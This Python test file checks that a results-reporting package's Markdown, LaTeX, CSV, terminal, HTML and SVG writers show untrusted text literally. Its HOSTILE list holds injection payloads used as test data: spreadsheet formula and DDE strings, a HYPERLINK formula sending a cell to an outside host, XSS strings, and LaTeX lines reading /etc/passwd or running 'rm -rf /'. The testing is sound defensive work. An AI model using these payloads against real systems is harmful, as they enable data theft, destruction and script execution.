"""Any text in any field of a result is written by every writer as literal text, without side effects."""

from __future__ import annotations

import csv
import io
import json
import re
from collections import Counter
from collections.abc import Callable, Mapping, Sequence
from dataclasses import dataclass
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import pytest
from hypothesis import Phase, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from tests.reporting.test_render import TEX
from tests.written_results import build
from zsl.errors import is_control, printable
from zsl.files import escaping
from zsl.outputs.result import Result, Selection
from zsl.reporting import occurrence_plot, reproduction, reproduction_csv
from zsl.reporting.comparison import class_plot, ranking_plot
from zsl.reporting.comparison.classes import by_class
from zsl.reporting.comparison.comparisons import compare, contender_pairs
from zsl.reporting.comparison.contenders import contenders, single_splits, split_groups
from zsl.reporting.comparison.layout import class_sheet, classes_csv, comparison_sheet, comparisons_csv, ranking_sheet
from zsl.reporting.comparison.ranking import rankings
from zsl.reporting.layout import arrange, sheets
from zsl.reporting.occurrences import BINS, histogram
from zsl.reporting.output import written
from zsl.reporting.render import latex, markdown, table_csv
from zsl.reporting.sheet import Cell, Line, Sheet
from zsl.reporting.table import rows

HOSTILE = [
    '=HYPERLINK("http://x/?"&A1,"y")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "-1,1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "＝1+1",
    'a","b\n=1',
    "[x](javascript:alert(1))",
    "![x](http://example.org/x.png)",
    "[x]: javascript:alert(1)",
    "[x][y]",
    "<javascript:alert(1)>",
    "http://example.org",
    "www.example.org",
    "someone@example.org",
    "a|b||c",
    "a\\|b\\",
    "`code` ``more",
    "*b* __b__ _i_ ~~s~~",
    "# heading #",
    "> quotation",
    "1. list",
    "- [x] task",
    "---",
    "$\\frac{$ $x^2$",
    "$$",
    "\\input{/etc/passwd}",
    "\\write18{rm -rf /}",
    "}\\end{tabular}%",
    "^^5cinput",
    "</script><script>alert(1)</script>",
    "\"><img src=x onerror='alert(1)'>",
    "' onmouseover='alert(1)",
    "{{ 7 * 7 }} {% raw %}",
    "<!-- <script>",
    "&lt;b&gt; &#60; &amp;",
    "]]>",
    "%{x} %{y:.1f}",
    "[bold]x[/bold] [/] [link=file:///]",
    "\x1b[31mred\x1b]8;;http://x\x07",
    "a\x00b\x08\x7f\x9b1m",
    "\u202egnp.exe \u2066x",
    "a\nb\r\nc\u2028d\u2029e",
    "\udc80\ufffe\uffff",
    "_hidden",
    "'",
]
texts = st.text(min_size=1, max_size=12) | st.text(
    "|[]()!<>\"'&\\`*_$%#{}^~=+-@:/\n\r\t\x1b xw.1", min_size=1, max_size=12
)


def result(text: str, **changes: Any) -> Result:
    """Make a result with a text in every text field."""
    card = {"images": 4, "features": 2, "classes": {"seen": 1, "unseen": 1}}
    card |= {"parts": {text: {"images": 4, "classes": 2}}, "licences": [text], "notes": [text]}
    counts = {"classes": [text, "x"], "N1": [3, 1], "bad_N1": [1, 0]}
    trials = [{"chosen": {text: value, "b": text}, "T1": 50.0 + value} for value in (1, 2)]
    places = {f"{kind}_{axis}": [0.0, 1.0] for kind in ("real", "made") for axis in "xy"}
    said: dict[str, Any] = {
        "method": text,
        "data": text,
        "data_title": text,
        "class_embedding": text,
        "correction": text,
        "card": card,
        "selection": Selection("validation", {text: text}, trials, 0.5),
        "per_class": {"u": {text: 40.0, "x": changes.get("T1", 1.0)}, "s": {text: 90.0}},
        "curve": {"u": [0.0, 20.0, 40.0], "s": [60.0, 50.0, 0.0], "gamma": [-1.0, 0.25, 2.0]},
        "hubness": {"ZSL": counts, "GZSL": counts},
        "synthetic": {"classes": [text, "x"], **places},
        "config": {"method": {"gamma": text, text: text}, "selection": {"objective": "T1"}},
        "overrides": [text, f"experiments={text}"],
        "versions": {text: text},
    }
    return build(**{**said, **changes})


@dataclass(frozen=True)
class Found:
    """Output of all writers for results with a text in every field."""

    results: Mapping[Path, Result]
    sheets: Sequence[Sheet]
    csvs: Sequence[str]


def found(text: str) -> Found:
    results = {
        Path(f"runs/{text}/{T1}-{seed}/result.json"): result(
            text, method=f"{text}{T1}", T1=T1 + seed / 4, seed=seed, u=T1 / 2
        )
        for T1 in (30.0, 40.0)
        for seed in range(2)
    }
    own = arrange(rows(results))
    claimed = reproduction.reproductions(results)
    runs = contenders(results)
    pair = contender_pairs(runs, None)[0]
    families = compare(runs, "T1", [pair])
    classes = [
        made
        for group in split_groups(runs)
        for split in single_splits(group, runs)
        if (made := by_class(split, runs, "u", *pair))
    ]
    assert families
    assert classes
    made = [*sheets(own, std=True), reproduction.summary(claimed), *reproduction.sections(claimed)]
    made += [*map(comparison_sheet, families), *map(class_sheet, classes), *map(ranking_sheet, rankings(runs, "T1")[0])]
    return Found(
        results,
        made,
        [table_csv(own), reproduction_csv.table_csv(claimed), comparisons_csv(families), classes_csv(classes)],
    )


def sheet(*words: str) -> Sheet:
    """Make a table with texts in every cell."""
    lines = tuple(Line(i % 2, (Cell(text, i == 0), Cell(text), Cell("1.0"))) for i, text in enumerate(words))
    return Sheet(
        words[0], (words[-1], words[0], "T1"), lines, tuple(words), tuple(words), (False, False, True), tuple(words)
    )


def squeezed(text: str) -> str:
    return " ".join(printable(text).split())


def require_markdown(made: Sequence[Sheet]) -> None:
    """Parse Markdown: cells equal their texts, and there are only headings, tables, lists, text and bold."""
    allowed = {"text", "strong_open", "strong_close", "text_special"}
    tokens = MarkdownIt("commonmark").enable(["table", "strikethrough"]).parse(markdown(made))
    inline = [token for token in tokens if token.type == "inline"]
    assert {child.type for token in inline for child in token.children or ()} <= allowed
    blocks = {token.type.removesuffix("_open").removesuffix("_close") for token in tokens} - {"inline"}
    assert blocks <= {
        "heading",
        *("table", "thead", "tbody", "tr", "th", "td"),
        "bullet_list",
        "list_item",
        "paragraph",
    }
    said = ["".join(child.content for child in token.children or ()) for token in inline]
    expected = []
    for each in made:
        expected += [each.title, *each.header, *(cell.text for line in each.lines for cell in line.cells)]
        expected += [*each.notes, *each.legend, *each.hints]
    assert list(map(squeezed, said)) == list(map(squeezed, expected))


def require_latex(made: Sequence[Sheet]) -> None:
    """Read LaTeX: cells equal their texts, and all commands are the writer's own."""
    text = latex(made)
    bodies = re.findall(
        r"\\begin\{tabular\}\{[lr]*\}\n\\toprule\n(.*?)\n\\bottomrule\n\\end\{tabular\}\}", text, re.DOTALL
    )
    assert len(bodies) == len(made) == text.count("\\caption{")
    for body, each in zip(bodies, made, strict=True):
        lines = [re.sub(r" \\\\( \\midrule)?$", "", line) for line in body.split("\n")]
        cells = [[re.sub(r"^\\textbf\{(.*)\}$", r"\1", cell) for cell in re.split(" & ", line)] for line in lines]
        expected = [list(each.header), *([cell.text for cell in line.cells] for line in each.lines)]
        back = {
            **TEX,
            r"$\times$": "×",
            r"$\geq$": "≥",
            r"$\theta$": "θ",
            r"$\gamma$": "γ",
            r"$\lambda$": "λ",
            r"$\rightarrow$": "→",
        }
        assert [[printable(text).replace("–", "--") for text in row] for row in expected] == [
            [read_back(cell, back) for cell in row] for row in cells
        ]


def read_back(cell: str, back: Mapping[str, str]) -> str:
    token = re.compile("|".join(re.escape(key) for key in sorted(back, key=len, reverse=True) if key != "--"))
    assert not re.search(r"[\\#$%&~_^{}]", token.sub("", cell)), cell
    return token.sub(lambda match: back[match[0]], cell)


def require_csv(text: str) -> None:
    """Read CSV: lines have equal length, and no text is a formula."""
    table = list(csv.reader(io.StringIO(text, newline="")))
    assert len({len(row) for row in table}) == 1
    for cell in (cell for row in table for cell in row):
        number = re.fullmatch(r"-?\d+(\.\d+)?(e[+-]?\d+)?", cell)
        assert number or not cell.lstrip(" ").startswith(tuple("=+-@\t\r＝＋－＠")), cell
        assert not any(map(is_control, cell)), cell


def require_terminal(made: Sequence[Sheet]) -> None:
    """Read plain text: no control characters, and cells equal their texts."""
    shown = written(made, "terminal")
    assert not any(map(is_control, shown.replace("\n", "")))


class Elements(HTMLParser):
    """Return elements with their attributes, and the content of scripts."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.found: Counter[tuple[str, ...]] = Counter()
        self.scripts: list[tuple[str, str]] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found[tag, *(name for name, _ in attrs)] += 1
        if tag == "script":
            self.scripts.append((dict(attrs).get("type") or "", ""))

    def handle_data(self, data: str) -> None:
        if self.cdata_elem == "script":
            kind, text = self.scripts[-1]
            self.scripts[-1] = kind, text + data


def page(text: str) -> Elements:
    pytest.importorskip("plotly", reason="pip install 'zsl[html]'")
    from zsl.reporting.html.page import page as made

    results = found(text).results
    shown = made(arrange(rows(results)), results)
    shown.encode()
    assert not any(
        is_control(char) for char in re.sub(r"<script>.*?</script>", "", shown, flags=re.DOTALL) if char != "\n"
    )
    return Elements(shown)


def require_html(text: str, plain: Elements) -> None:
    """A page with these texts has the elements, attributes and scripts of a page with a plain word."""
    made = page(text)
    assert made.found == plain.found
    assert [kind for kind, _ in made.scripts] == [kind for kind, _ in plain.scripts]
    for (kind, code), (_, other) in zip(made.scripts, plain.scripts, strict=True):
        if kind == "application/json":
            for figure in strings(json.loads(code)):
                assert not re.search(r"<(?!br>|/?extra>)", figure), figure
        else:
            assert code == other


def strings(value: Any) -> list[str]:
    if isinstance(value, dict):
        return [text for item in value.values() for text in strings(item)]
    if isinstance(value, list):
        return [text for item in value for text in strings(item)]
    return [value] if isinstance(value, str) else []


@pytest.fixture(scope="module")
def plain() -> Elements:
    return page("word")


@pytest.mark.parametrize("text", HOSTILE, ids=[ascii(text)[:30] for text in HOSTILE])
def test_a_hostile_text_is_shown_and_does_nothing(text: str) -> None:
    made = [sheet(text), sheet("x", text), sheet(text, "x")]
    require_markdown(made)
    require_latex(made)
    require_terminal(made)
    require_csv(escaping.csv_text([[text, f"{text}{text}", 1.5, -2, None]]))


def test_all_reports_on_hostile_results_are_harmless(plain: Elements) -> None:
    """Pages are made for groups of texts, because a page takes time."""
    for text in (" ".join(HOSTILE[:20]), " ".join(HOSTILE[20:33]), *(" ".join(HOSTILE[i : i + 8]) for i in (33, 41))):
        require_all(text, plain)


@given(text=texts)
@settings(max_examples=5, deadline=None, phases=[Phase.generate])  # a page takes too long to shrink the text
def test_any_text_in_any_field_is_harmless(text: str, plain: Elements) -> None:
    require_all(text, plain)


def require_all(text: str, plain: Elements) -> None:
    of = found(text)
    require_markdown(of.sheets)
    require_latex(of.sheets)
    require_terminal(of.sheets)
    for made in of.csvs:
        require_csv(made)
    require_html(text, plain)


@given(text=texts, other=texts)
@settings(max_examples=100, deadline=None)
def test_any_text_in_a_table_is_harmless(text: str, other: str) -> None:
    made = [sheet(text, other)]
    require_markdown(made)
    require_latex(made)
    require_terminal(made)
    require_csv(escaping.csv_text([[text, other]]))


def test_numbers_stay_numbers_in_csv() -> None:
    cells = [-1, -0.5, 1e-9, "-1.5", "+3", "-1e5", "-", "-x", "a=b", ""]
    assert [escaping.csv_cell(cell) for cell in cells] == [*cells[:6], "'-", "'-x", "a=b", ""]


def test_a_plot_shows_every_text_as_it_is(make: Callable[..., Result]) -> None:
    said = [" ".join(HOSTILE[i : i + 10]) for i in range(0, len(HOSTILE), 10)]
    results = {
        Path(f"{i}.json"): make(
            method=text,
            data_title=f"data {text}",
            metrics=dict.fromkeys(("T1",), 50.0) | histogram([3, 1]),
            config={"method": {"gamma": i}},
        )
        for i, text in enumerate(said)
    }
    image = occurrence_plot.draw(rows(results), 1, BINS, "svg")
    require_svg(image, [name for text in said for name in (text, f"data {text}, inductive")])


def test_plots_of_comparisons_show_every_text_as_it_is(make: Callable[..., Result]) -> None:
    names = HOSTILE[26:34]
    results = {
        Path(f"{method}{world}{seed}"): make(
            method=method,
            data_title=f"$world{world}",
            data=f"$world{world}",
            seed=seed,
            T1=40.0 + place + world / 8,
            per_class={"u": {name: 40.0 + place * 3 + i for i, name in enumerate(names)}},
            prints={"features": str(world) * 64, "test_unseen": str(world) * 64},
        )
        for place, method in enumerate(("$a_{", "\\frac{$b$", "\x1b$"))
        for world in range(3)
        for seed in range(2)
    }
    runs = contenders(results)
    ranked, missing = rankings(runs, "T1")
    assert ranked, missing
    require_svg(ranking_plot.draw(ranked, "svg"), [])
    pair = contender_pairs(runs, None)[0]
    splits = [split for group in split_groups(runs) for split in single_splits(group, runs)]
    classes = [of for split in splits if (of := by_class(split, runs, "u", *pair))]
    require_svg(class_plot.draw(classes, "svg"), [f"{name} (u)" for name in names])


def require_svg(image: bytes, words: Sequence[str]) -> None:
    """SVG is XML with each text, line by line, and without scripts or external resources."""
    drawing = ElementTree.fromstring(image)
    shown = {" ".join("".join(node.itertext()).split()) for node in drawing.iter() if node.tag.endswith("}text")}
    lines = {" ".join(line.split()) for text in words for line in escaping.drawn(text).split("\n")}
    assert lines - {""} <= shown, lines - shown
    tags = {node.tag.rpartition("}")[2] for node in drawing.iter()}
    assert not tags & {"script", "foreignObject", "image", "a"}
